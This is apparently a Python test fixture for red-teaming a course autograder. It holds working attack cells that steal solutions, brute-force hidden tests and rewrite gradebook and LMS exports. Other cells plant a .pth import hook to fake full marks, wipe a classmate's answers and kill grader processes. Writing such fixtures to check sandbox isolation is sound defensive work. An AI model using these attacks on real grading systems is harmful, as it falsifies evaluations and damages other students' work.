"""Hostile submissions: one notebook per class of attack on the grader.

Each attack is the blank student notebook (so every point it gets is unearned) with one extra
code cell. The cells find their targets the way a real attacker would: the course package's
``paths`` (the checkout), the grader's command line (``/proc/<parent>/cmdline``: submissions
and results folders, ``--build-dir``), the folder above the working directory (the grader's
temporary folder). Each was seen succeeding against the grader before isolation (see
``tests/test_grading_redteam.py``).

Two rules keep them safe on a shared machine, even against a grader without isolation: they
only ever signal the grader process that started them and its direct children, and the
``.pth`` payload does nothing unless the environment variable ``REDTEAM_ARMED`` holds this
run's token (only the test's grader has it).
"""

from __future__ import annotations

import copy
import json
from typing import Any

import nbformat

from defence_course.teach.grader import synthetic

# Helpers every attack cell starts with: where the grader keeps things.
PRELUDE = r"""
import glob, json, os, pathlib, signal, subprocess, sys, time

def _grader_args():
    try:
        raw = pathlib.Path(f"/proc/{os.getppid()}/cmdline").read_bytes()
        cwd = os.readlink(f"/proc/{os.getppid()}/cwd")
    except OSError:
        return [], "/"
    return [a.decode(errors="ignore") for a in raw.split(b"\0") if a], cwd

def _grader_path(flag):
    args, cwd = _grader_args()
    if flag in args and args.index(flag) + 1 < len(args):
        return pathlib.Path(cwd, args[args.index(flag) + 1])
    return None

def _checkout():
    from defence_course import paths
    return pathlib.Path(paths.REPO_ROOT)

def _build_dirs():
    found = [_grader_path("--build-dir"), _checkout() / "_build" / "exercises"]
    return [p for p in found if p is not None]

def _run_code(source):
    exec(compile(source, "stolen", "exec"), globals())

def _tagged_code(notebook_path, tag):
    nb = json.loads(pathlib.Path(notebook_path).read_text())
    return ["".join(c["source"]) for c in nb["cells"] if c["cell_type"] == "code"
            and tag in c.get("metadata", {}).get("tags", [])]
"""

COPY_MASTER = r"""
from defence_course import paths
for folder in (getattr(paths, "EXERCISES_DIR", None), _checkout() / "exercises"):
    master = pathlib.Path(folder or "/nonexistent") / "threat" / "threat.ipynb"
    if master.exists():
        inside = False
        for cell in json.loads(master.read_text())["cells"]:
            source = "".join(cell["source"])
            if cell["cell_type"] == "raw":
                inside = "BEGIN SOLUTION" in source or (inside and "END SOLUTION" not in source)
            elif inside and cell["cell_type"] == "code":
                _run_code(source)
        break
"""

COPY_AUTOGRADER = r"""
for build in _build_dirs():
    notebook = build / "threat" / "dist" / "autograder" / "threat.ipynb"
    if notebook.exists():
        for source in _tagged_code(notebook, "otter_assign_solution_cell"):
            _run_code(source)
        break
"""

COPY_CLASSMATE = r"""
args, cwd = _grader_args()
if "grade" in args:
    classmate = pathlib.Path(cwd, args[args.index("grade") + 1], "alice.ipynb")
    for source in _tagged_code(classmate, "otter_answer_cell"):
        _run_code(source)
"""

# Run the hidden test of the Patriot exchange ratio against every candidate answer until one
# passes.
HARVEST_TESTS = r"""
for build in _build_dirs():
    manifest = build / "threat" / "grading.json"
    if manifest.exists():
        for source in json.loads(manifest.read_text())["tests"].values():
            if "def test_exchange_ratio_value" not in source:
                continue
            source = source.replace("from otter.test_files import test_case",
                                    "test_case = lambda **kw: (lambda f: f)")
            tests = {}
            exec(source, tests)
            for candidate in range(500):
                try:
                    tests["test_exchange_ratio_value"](candidate)
                except Exception:
                    continue
                exchange_ratio = candidate
                break
        break
"""

# A detached process that waits for the grader to finish, then rewrites its owner's marks in
# the gradebook, the LMS files and the result cache.
OUTLIVER = r"""
import csv, io, json, os, pathlib, sys, time
tag, out, canary, me = sys.argv[1:5]
out = pathlib.Path(out)
deadline = time.time() + 90
while time.time() < deadline and not (out / "summary.json").exists():
    time.sleep(0.2)
time.sleep(0.3)
try:
    pathlib.Path(canary, f"outlived-{os.getpid()}").write_text("alive after the grader")
except OSError:
    pass
def rewrite(name, change):
    path = out / name
    try:
        rows = list(csv.reader(io.StringIO(path.read_text())))
    except OSError:
        return
    rows = [change(r) for r in rows]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    path.write_text(buffer.getvalue())
header = []
def gradebook(row):
    if not header:
        header.extend(row)
    elif row and row[0] == me:
        row = ["99" if name == "total" or name[:1] == "q" and name[1:].isdigit() else value
               for name, value in zip(header, row)]
    return row
rewrite("gradebook.csv", gradebook)
rewrite("moodle_import.csv", lambda r: [me, "99", r[2]] if r and r[0] == me else r)
rewrite("canvas_import.csv", lambda r: r[:5] + ["99"] if me in r else r)
for entry in (out / ".cache").glob("*.json"):
    record = json.loads(entry.read_text())
    outcome = record.get("outcome", {})
    if outcome.get("student_id") == me:
        outcome["points"] = {name: 99 for name in outcome.get("points", {})}
        entry.write_text(json.dumps(record))
time.sleep(60)  # and linger, ready for the next run
"""

OUTLIVE = r"""
out = _grader_path("--out")
subprocess.Popen([sys.executable, "-c", OUTLIVER, "REDTEAM-{token}", str(out or "/nonexistent"),
                  "{canary}", "{student}"], start_new_session=True, close_fds=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""

# Installed in the grader's site-packages by POISON_PTH: from then on, every Python started
# from that environment (the grader's evaluator included) gives full marks to any submission
# carrying the magic answer. Inert unless REDTEAM_ARMED holds the token.
PTH_PAYLOAD = r"""
import os, sys
if os.environ.get("REDTEAM_ARMED") == "{token}":
    try:
        with open(os.path.join("{canary}", "pth-ran-%d" % os.getpid()), "w") as note:
            note.write(" ".join(sys.argv))
    except OSError:
        pass
    import importlib.abc, importlib.machinery
    class _Hook(importlib.abc.MetaPathFinder):
        def find_spec(self, name, path=None, target=None):
            if name != "defence_course.teach.grader.evaluate":
                return None
            spec = importlib.machinery.PathFinder.find_spec(name, path)
            if spec is None:
                return None
            original = spec.loader.exec_module
            def exec_module(module):
                original(module)
                real = module.evaluate
                def evaluate(test_files, answers):
                    results = real(test_files, answers)
                    if "PTH-{token}" in [v for v in answers.values() if isinstance(v, str)]:
                        for result in results.values():
                            result["score"] = result["possible"]
                    return results
                module.evaluate = evaluate
            spec.loader.exec_module = exec_module
            return spec
    sys.meta_path.insert(0, _Hook())
"""

POISON_PTH = r"""
import site, sysconfig
for folder in set(site.getsitepackages()) | {sysconfig.get_paths()["purelib"]}:
    try:
        pathlib.Path(folder, "redteam_{token}_payload.py").write_text(PTH_PAYLOAD)
        pathlib.Path(folder, "redteam_{token}.pth").write_text(
            "import redteam_{token}_payload\n")
    except OSError:
        pass
"""

VANDAL = r"""
out, submissions = _grader_path("--out"), None
args, cwd = _grader_args()
if "grade" in args:
    submissions = pathlib.Path(cwd, args[args.index("grade") + 1])
targets = [pathlib.Path(os.getcwd()).parent / "REDTEAM-vandal-{token}.txt",
           _checkout() / "REDTEAM-vandal-{token}.txt"]
if out:
    targets.append(out / "REDTEAM-vandal-{token}.txt")
for target in targets:
    try:
        target.write_text("written by a submission")
    except OSError:
        pass
if submissions:
    victim = submissions / "bob.ipynb"
    try:
        nb = json.loads(victim.read_text())
        for cell in nb["cells"]:
            if "otter_answer_cell" in cell.get("metadata", {}).get("tags", []):
                cell["source"] = "..."
        victim.write_text(json.dumps(nb))
    except (OSError, ValueError):
        pass
"""

# Kill every other child of the grader (other notebooks, the evaluator, its replacements)
# for ten seconds.
KILL_SIBLINGS = r"""
me, grader = os.getpid(), os.getppid()
end = time.time() + 10
while time.time() < end:
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == me:
            continue
        try:
            stat = pathlib.Path(f"/proc/{entry}/stat").read_text()
            parent = int(stat.rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            continue
        if parent == grader:
            try:
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
    time.sleep(0.05)
"""

KILL_GRADER = r"""
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
time.sleep(2)
"""

ATTACKS = {
    "copy_master": COPY_MASTER,
    "copy_autograder": COPY_AUTOGRADER,
    "copy_classmate": COPY_CLASSMATE,
    "harvest_tests": HARVEST_TESTS,
    "outlive": OUTLIVE,
    "poison_pth": POISON_PTH,
    "vandal": VANDAL,
    "kill_siblings": KILL_SIBLINGS,
    "kill_grader": KILL_GRADER,
}


def attack_cell(kind: str, *, token: str, canary: str, student: str) -> str:
    """The source of the extra cell for attack ``kind``."""
    body = ATTACKS[kind]
    constants = {"OUTLIVER": OUTLIVER, "PTH_PAYLOAD": PTH_PAYLOAD}
    definitions = "".join(
        f"{name} = {json.dumps(_fill(text, token, canary, student))}\n"
        for name, text in constants.items()
        if name in body
    )
    return PRELUDE + definitions + _fill(body, token, canary, student)


def _fill(text: str, token: str, canary: str, student: str) -> str:
    return text.replace("{token}", token).replace("{canary}", canary).replace("{student}", student)


def with_cell(nb: nbformat.NotebookNode, source: str) -> dict[str, Any]:
    """``nb`` (as JSON) with a code cell appended after its last answer cell."""
    nb = copy.deepcopy(nb)
    answers = [
        i
        for i, c in enumerate(nb.cells)
        if c.cell_type == "code" and synthetic.ANSWER_TAG in c.metadata.get("tags", [])
    ]
    nb.cells.insert(answers[-1] + 1, nbformat.v4.new_code_cell(source))
    return synthetic.as_json(nb)


def attack_notebook(
    blank: nbformat.NotebookNode, kind: str, *, token: str, canary: str, student: str
) -> dict[str, Any]:
    return with_cell(blank, attack_cell(kind, token=token, canary=canary, student=student))


def pth_beneficiary(blank: nbformat.NotebookNode, token: str) -> dict[str, Any]:
    """A blank notebook carrying the answer the poisoned grader rewards with full marks."""
    return with_cell(blank, f'consultation_provision = "PTH-{token}"')
